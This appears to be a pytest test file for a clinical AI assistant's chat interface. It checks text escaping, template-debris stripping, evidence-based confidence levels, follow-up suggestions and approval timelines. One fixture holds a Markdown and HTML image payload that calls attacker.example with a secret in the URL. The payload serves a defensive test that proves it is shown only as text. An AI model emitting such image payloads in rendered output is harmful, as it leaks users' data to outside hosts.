"""An honest page, on the pure functions: the clinician's text is escaped like model text, template echoes
are dropped, confidence follows the evidence, follow-ups never repeat the question, and the timeline of a
turn paused for approval is that turn's."""

from __future__ import annotations

from typing import Any

import pytest

from docgemma.agent.answer import confidence, follow_ups, strip_template_debris
from docgemma.agent.assistant import TurnResult
from docgemma.agent.demo_llm import demo_llm
from docgemma.agent.events import NodeEnd, Token
from docgemma.agent.state import AgentState, ToolResult
from docgemma.llm.fake import FakeLLM
from docgemma.tools.registry import default_registry
from docgemma.ui.messages import apply_event, final_markdown, timeline_markdown, user_message
from docgemma.ui.text import render_timeline

REMOTE = "![x](http://attacker.example/?q=secret) <img src=http://attacker.example/a.png>"


def test_the_clinicians_own_text_cannot_load_remote_images() -> None:
    """The user's message went to the chat as raw Markdown: the browser fetched the attacker's image."""
    shown = user_message(f"Is this normal? {REMOTE}")["content"]
    assert "![x](" not in shown and "<img" not in shown
    assert "attacker.example" in shown  # still shown, as text


def test_no_remote_images_from_model_tool_or_source_text() -> None:
    history = apply_event([], Token(REMOTE))
    node = {"node": "tool_execute", "label": "Consulting: Literature", "decision": "success", "detail": REMOTE,
            "duration_ms": 5.0, "llm_calls": 0, "prompt_tokens": 0}
    history = apply_event([*history, {"role": "assistant", "content": "", "metadata": {"id": "tool_execute:1",
                                                                                        "status": "pending"}}],
                          NodeEnd(node))
    result = TurnResult(answer=REMOTE, sources=[{"title": REMOTE, "url": "https://pubmed.example/1"},
                                                {"title": "x", "url": "http://attacker.example/i.png"}],
                        timeline=[node])
    for text in [*(m["content"] for m in history), final_markdown(result), timeline_markdown(result)]:
        assert "![x](" not in text and "<img" not in text, text  # shown as text: `!\[x](…)`, `&lt;img`


@pytest.mark.parametrize(("raw", "clean"), [
    ("Clinician's answer: Hypertension is raised blood pressure.", "Hypertension is raised blood pressure."),
    ("Blood pressure {{ (hint: Drug Safety Report)", "Blood pressure"),
    ("Warfarin {{answer}} interacts.<|im_end|>", "Warfarin  interacts."),
    ("**Clinician's question:** x\nAssistant: y", "x\ny"),
    ("The answer: keep the dose.", "The answer: keep the dose."),  # ordinary prose is untouched
])
def test_template_debris_is_stripped(raw: str, clean: str) -> None:
    assert strip_template_debris(raw).strip() == clean


def test_debris_split_across_streamed_chunks_and_in_the_timeline() -> None:
    history: list[dict[str, Any]] = []
    for chunk in ["Clinician's ", "answer: ", "Raised ", "blood pressure {{ (hint:", " Drug Safety Report)\n", "Stop."]:
        history = apply_event(history, Token(chunk))
    assert history[-1]["content"] == "Raised blood pressure \nStop."
    from docgemma.agent.trace import NodeTrace

    # The timeline is cleaned where its events are made, so every front end shows the same clean text.
    event = NodeTrace("intent_classify").event("TOOL_NEEDED", "Clinician's answer: check warfarin {{ (hint: Drug Safety Report)")
    result = TurnResult(answer="x", timeline=[event])
    for text in (timeline_markdown(result), render_timeline(result)):
        assert "{{" not in text and "Clinician's answer" not in text and "check warfarin" in text


def _result(tool: str, status: str = "success", sources: int = 1) -> ToolResult:
    return ToolResult(tool_name=tool, tool_label=tool, args={}, status=status,  # type: ignore[typeddict-item]
                      data={"x": 1} if status == "success" else None, formatted_result="", error=None,
                      error_type=None if status == "success" else "timeout",
                      sources=[{"title": "t", "url": f"https://e.org/{i}"} for i in range(sources)])


def _state(**fields: Any) -> AgentState:
    base: dict[str, Any] = {"scope": "clinical", "intent": "TOOL_NEEDED", "tool_results": [], "qualities": [],
                            "error_messages": [], "total_retries": 0, "clarification_request": None,
                            "user_query": "q", "active_patient": None,
                            "extracted_entities": {"patient_ids": [], "patient_names": [], "drug_mentions": [],
                                                   "action_verbs": [], "has_image": False}}
    return AgentState(**{**base, **fields})  # type: ignore[typeddict-item]


MEANINGFUL = FakeLLM(name="MedGemma 1.5 4B IT")


@pytest.mark.parametrize(("state", "llm", "expected"), [
    # An answer from model memory by a model flagged not clinically meaningful: low, not "medium".
    (_state(intent="DIRECT"), demo_llm(), "low"),
    (_state(intent="DIRECT"), MEANINGFUL, "medium"),
    (_state(intent="DIRECT", scope="greeting"), MEANINGFUL, None),
    (_state(tool_results=[_result("check_drug_safety")], qualities=["success_rich"]), MEANINGFUL, "high"),
    (_state(tool_results=[_result("get_patient_chart", sources=0)], qualities=["success_rich"]), MEANINGFUL, "high"),
    (_state(tool_results=[_result("check_drug_safety")], qualities=["success_rich"]), demo_llm(), "medium"),
    (_state(tool_results=[_result("check_drug_safety")], qualities=["success_partial"]), MEANINGFUL, "medium"),
    (_state(tool_results=[_result("x", "error"), _result("check_drug_safety")], total_retries=1,
            qualities=["error_retryable", "success_rich"]), MEANINGFUL, "medium"),
    (_state(tool_results=[_result("check_drug_safety", "error")], qualities=["error_fatal"],
            error_messages=["The service did not answer."]), MEANINGFUL, "low"),
    (_state(tool_results=[_result("check_drug_safety", sources=0)], qualities=["no_results"]), MEANINGFUL, "low"),
    (_state(clarification_request="Which patient?"), MEANINGFUL, "low"),
])
def test_confidence_follows_the_evidence(state: AgentState, llm: Any, expected: str | None) -> None:
    """It was "medium" on every turn of the demo; now tool success, sources, retries, errors and the model's
    standing decide it (see the docstring of ``confidence``)."""
    assert confidence(state, llm) == expected


def test_follow_ups_never_repeat_the_question_just_asked() -> None:
    entities = {"patient_ids": [], "patient_names": [], "drug_mentions": ["warfarin"], "action_verbs": [],
                "has_image": False}
    failed = _state(user_query="Find recent studies on warfarin", extracted_entities=entities,
                    tool_results=[_result("search_medical_literature", "error")])
    assert all("studies on warfarin" not in q.lower() for q in follow_ups(failed, default_registry()))
    typed = _state(user_query="find recent studies on this topic!", intent="DIRECT")
    assert "Find recent studies on this topic" not in follow_ups(typed, default_registry())
    greeting = _state(scope="greeting", user_query="Check interactions between warfarin and aspirin")
    assert "Check interactions between warfarin and aspirin" not in follow_ups(greeting, default_registry())


def test_follow_ups_come_from_the_tools_not_tried_the_record_first() -> None:
    """Each tool suggests its own next question (``ToolSpec.follow_up``): the chart first, then in registry order;
    trials only after a literature search. Pinned when the suggestions moved from here onto the specs."""
    entities = {"patient_ids": [], "patient_names": [], "drug_mentions": ["warfarin"], "action_verbs": [],
                "has_image": False}
    grace = {"id": "gm-001", "name": "Grace Mensah"}
    both = _state(user_query="Is warfarin safe?", extracted_entities=entities, active_patient=grace)
    assert follow_ups(both, default_registry()) == [
        "Show the chart of Grace Mensah", "What are the FDA safety warnings for warfarin?",
        "Check interactions between warfarin and Grace Mensah's medications"]
    searched = _state(user_query="q", tool_results=[_result("search_medical_literature")])
    assert follow_ups(searched, default_registry()) == ["Are there recruiting clinical trials on this topic?"]


def test_a_paused_turn_shows_its_own_timeline() -> None:
    step = {"node": "tool_execute", "label": "Consulting: Prescription", "decision": "awaiting approval",
            "detail": "amoxicillin 500 mg", "duration_ms": 12.0, "llm_calls": 0, "prompt_tokens": 0}
    text = timeline_markdown(TurnResult(answer="", timeline=[step]), pending=True)
    assert "Waiting for your approval" in text and "Prescription" in text and "Confidence" not in text


def test_a_write_confirmation_that_names_its_patient_reads_as_written_for_them() -> None:
    from docgemma.ui.wording import write_line

    what, kind, ref, reason = write_line("Saved for Amina Okafor: metformin 500 mg twice daily [MedicationRequest/abc-1]")
    assert (what, kind, ref, reason) == ("metformin 500 mg twice daily", "prescription for Amina Okafor",
                                         "MedicationRequest/abc-1", "")
